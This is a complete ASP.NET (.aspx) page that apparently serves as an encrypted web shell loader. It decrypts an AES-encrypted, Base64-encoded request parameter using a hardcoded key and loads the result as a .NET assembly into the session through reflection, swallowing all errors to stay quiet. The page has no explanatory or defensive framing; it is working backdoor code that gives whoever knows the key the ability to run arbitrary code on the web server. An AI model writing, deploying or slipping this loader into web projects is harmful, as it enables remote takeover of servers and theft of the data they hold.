<%@ Page Language="C#"%><%
try {
	string key = "0123456789abcdef";
	byte[] data = System.Convert.FromBase64String(Context.Request["p"]);
	data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);
	if (Context.Session["payload"] == null) {
		Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
	}
} catch (System.Exception) { }
%>
